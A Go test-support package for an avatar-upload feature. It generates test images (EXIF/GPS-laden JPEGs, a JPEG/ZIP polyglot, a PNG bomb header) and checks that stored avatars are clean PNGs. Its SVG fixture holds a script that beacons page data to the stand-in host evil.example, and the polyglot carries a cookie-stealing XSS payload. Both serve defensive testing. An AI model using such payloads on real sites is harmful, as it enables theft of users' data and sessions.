// Package testimage is test support for avatar uploads: images made in the
// test (PNG, JPEG with an EXIF segment holding GPS coordinates, GIF,
// polyglots, bombs) and committed WebP fixtures (Go can decode WebP but not
// encode it), and Check, which says whether bytes are a stored avatar
// image: a 256×256 PNG with no metadata.
package testimage

import (
	"archive/zip"
	"bytes"
	"embed"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/color/palette"
	"image/gif"
	"image/jpeg"
	"image/png"
)

//go:embed testdata/*.webp
var fixtures embed.FS

// WebP returns a committed fixture: "photo-exif.webp" (lossy, 120×80, in
// the extended format with an EXIF chunk holding GPS coordinates, made with
// cwebp and webpmux) or "lossless.webp" (the same picture, lossless).
func WebP(name string) []byte {
	b, err := fixtures.ReadFile("testdata/" + name)
	if err != nil {
		panic(err)
	}
	return b
}

// Picture returns a w×h picture with a gradient and a disc in the middle,
// so a crop or scale gone wrong shows.
func Picture(w, h int) *image.NRGBA {
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			c := color.NRGBA{uint8(x * 255 / max(w, 1)), uint8(y * 255 / max(h, 1)), 160, 255}
			dx, dy := x-w/2, y-h/2
			if r := min(w, h) / 4; dx*dx+dy*dy < r*r {
				c = color.NRGBA{250, 200, 20, 255}
			}
			img.SetNRGBA(x, y, c)
		}
	}
	return img
}

// PNG encodes Picture(w, h) as PNG.
func PNG(w, h int) []byte {
	var buf bytes.Buffer
	if err := png.Encode(&buf, Picture(w, h)); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// GPSMarker is a byte string the EXIF segment of JPEGWithGPS carries (a
// camera's maker note would): no stored image may contain it.
const GPSMarker = "SOULBRIDGE-GPS-52.5200N-13.4050E"

// Exif returns an EXIF block ("Exif\0\0" and a big-endian TIFF) whose IFD0
// points to a GPS IFD with latitude 52°31'12.34" N and longitude
// 13°24'56.78" E, and an image description holding GPSMarker.
func Exif() []byte {
	var b []byte
	u16 := func(v int) { b = binary.BigEndian.AppendUint16(b, uint16(v)) }
	u32 := func(v int) { b = binary.BigEndian.AppendUint32(b, uint32(v)) }
	b = append(b, "MM\x00\x2a"...)
	u32(8) // IFD0 at 8
	// IFD0: 2 entries (12 bytes each), then the next-IFD offset: 8+2+24+4 = 38.
	u16(2)
	u16(0x010e) // ImageDescription, ASCII
	u16(2)
	u32(len(GPSMarker) + 1)
	u32(38 + 2 + 4*12 + 4 + 48) // after the GPS IFD and its rationals
	u16(0x8825)                 // GPSInfo IFD pointer
	u16(4)
	u32(1)
	u32(38)
	u32(0)
	// GPS IFD at 38: 4 entries, rationals after it at 38+54 = 92.
	u16(4)
	u16(1) // GPSLatitudeRef "N"
	u16(2)
	u32(2)
	b = append(b, 'N', 0, 0, 0)
	u16(2) // GPSLatitude, 3 rationals
	u16(5)
	u32(3)
	u32(92)
	u16(3) // GPSLongitudeRef "E"
	u16(2)
	u32(2)
	b = append(b, 'E', 0, 0, 0)
	u16(4) // GPSLongitude
	u16(5)
	u32(3)
	u32(92 + 24)
	u32(0)
	for _, v := range []int{52, 1, 31, 1, 1234, 100, 13, 1, 24, 1, 5678, 100} {
		u32(v)
	}
	b = append(b, GPSMarker...)
	b = append(b, 0)
	return append([]byte("Exif\x00\x00"), b...)
}

// ExifOrientation returns an EXIF block (little-endian TIFF, as most
// phones write it) whose IFD0 holds only the Orientation tag o.
func ExifOrientation(o int) []byte {
	b := []byte("Exif\x00\x00II\x2a\x00\x08\x00\x00\x00")
	b = binary.LittleEndian.AppendUint16(b, 1)      // one entry
	b = binary.LittleEndian.AppendUint16(b, 0x0112) // Orientation
	b = binary.LittleEndian.AppendUint16(b, 3)      // SHORT
	b = binary.LittleEndian.AppendUint32(b, 1)
	b = binary.LittleEndian.AppendUint16(b, uint16(o))
	b = append(b, 0, 0)
	return binary.LittleEndian.AppendUint32(b, 0)
}

// JPEGWithGPS encodes Picture(w, h) as JPEG with an APP1 segment holding
// Exif() right after the start-of-image marker, as cameras write it.
func JPEGWithGPS(w, h int) []byte { return JPEGWithExif(Picture(w, h), Exif()) }

// JPEGWithExif encodes img as JPEG with an APP1 segment holding exif
// right after the start-of-image marker.
func JPEGWithExif(img image.Image, exif []byte) []byte {
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, img, &jpeg.Options{Quality: 90}); err != nil {
		panic(err)
	}
	j := buf.Bytes()
	seg := []byte{0xff, 0xe1}
	seg = binary.BigEndian.AppendUint16(seg, uint16(len(exif)+2))
	seg = append(seg, exif...)
	out := append([]byte{}, j[:2]...)
	out = append(out, seg...)
	return append(out, j[2:]...)
}

// GIF returns an animated GIF of w×h with two frames: the first is
// Picture(w, h) in the web-safe palette, the second plain red.
func GIF(w, h int) []byte {
	pic := Picture(w, h)
	first := image.NewPaletted(pic.Bounds(), palette.WebSafe)
	for y := range h {
		for x := range w {
			first.Set(x, y, pic.At(x, y))
		}
	}
	second := image.NewPaletted(pic.Bounds(), palette.WebSafe)
	for i := range second.Pix {
		second.Pix[i] = uint8(second.Palette.Index(color.RGBA{255, 0, 0, 255}))
	}
	var buf bytes.Buffer
	if err := gif.EncodeAll(&buf, &gif.GIF{Image: []*image.Paletted{first, second}, Delay: []int{10, 10}}); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// ZipMarker is the name of the file inside Polyglot's ZIP archive.
const ZipMarker = "polyglot-payload.html"

// Polyglot returns a file that is both a JPEG (JPEGWithGPS(w, h)) and a ZIP
// archive (appended after the JPEG's end: ZIP readers look from the end).
func Polyglot(w, h int) []byte {
	var z bytes.Buffer
	zw := zip.NewWriter(&z)
	f, err := zw.Create(ZipMarker)
	if err != nil {
		panic(err)
	}
	_, _ = f.Write([]byte("<script>alert(document.cookie)</script>"))
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return append(JPEGWithGPS(w, h), z.Bytes()...)
}

// PNGHeader returns a PNG signature, an IHDR claiming w×h RGBA pixels, a
// tiny IDAT and IEND: a decompression bomb's header without the bomb.
func PNGHeader(w, h int) []byte {
	out := []byte("\x89PNG\r\n\x1a\n")
	ihdr := binary.BigEndian.AppendUint32(nil, uint32(w))
	ihdr = binary.BigEndian.AppendUint32(ihdr, uint32(h))
	ihdr = append(ihdr, 8, 6, 0, 0, 0) // 8-bit RGBA, deflate, no filter, no interlace
	out = appendChunk(out, "IHDR", ihdr)
	out = appendChunk(out, "IDAT", []byte{0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01})
	return appendChunk(out, "IEND", nil)
}

func appendChunk(out []byte, typ string, data []byte) []byte {
	out = binary.BigEndian.AppendUint32(out, uint32(len(data)))
	start := len(out)
	out = append(out, typ...)
	out = append(out, data...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(out[start:]))
}

// SVG is an SVG image with a script.
const SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="256" height="256">
  <script>fetch('/community/avatar').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))</script>
  <circle cx="128" cy="128" r="100" fill="red"/>
</svg>`

// allowedChunks are the PNG chunks a stored image may hold: pixels and how
// to read them, nothing about where or by whom it was made.
var allowedChunks = map[string]bool{"IHDR": true, "PLTE": true, "tRNS": true, "IDAT": true, "IEND": true}

// Check reports why b is not a stored avatar image: a PNG that decodes
// cleanly to size×size, with only IHDR, PLTE, tRNS, IDAT and IEND chunks,
// nothing after IEND, and none of the markers the test images carry (EXIF,
// GPS, ZIP).
func Check(b []byte, size int) error {
	img, err := png.Decode(bytes.NewReader(b))
	if err != nil {
		return fmt.Errorf("does not decode as PNG: %v", err)
	}
	if got := img.Bounds(); got.Dx() != size || got.Dy() != size {
		return fmt.Errorf("is %v, want %d×%d", got, size, size)
	}
	chunks, err := Chunks(b)
	if err != nil {
		return err
	}
	for _, c := range chunks {
		if !allowedChunks[c] {
			return fmt.Errorf("holds a %s chunk (chunks %v)", c, chunks)
		}
	}
	for _, m := range []string{"Exif", GPSMarker, "PK\x03\x04", "PK\x05\x06", ZipMarker, "<script"} {
		if bytes.Contains(b, []byte(m)) {
			return fmt.Errorf("contains %q", m)
		}
	}
	return nil
}

// Chunks lists the chunk types of PNG b, in order, and checks that nothing
// follows IEND.
func Chunks(b []byte) ([]string, error) {
	const sig = "\x89PNG\r\n\x1a\n"
	if !bytes.HasPrefix(b, []byte(sig)) {
		return nil, fmt.Errorf("no PNG signature")
	}
	var out []string
	for p := len(sig); p < len(b); {
		if len(b)-p < 12 {
			return out, fmt.Errorf("%d stray bytes at %d", len(b)-p, p)
		}
		n := int(binary.BigEndian.Uint32(b[p:]))
		typ := string(b[p+4 : p+8])
		out = append(out, typ)
		p += 12 + n
		if typ == "IEND" && p != len(b) {
			return out, fmt.Errorf("%d bytes after IEND", len(b)-p)
		}
	}
	return out, nil
}
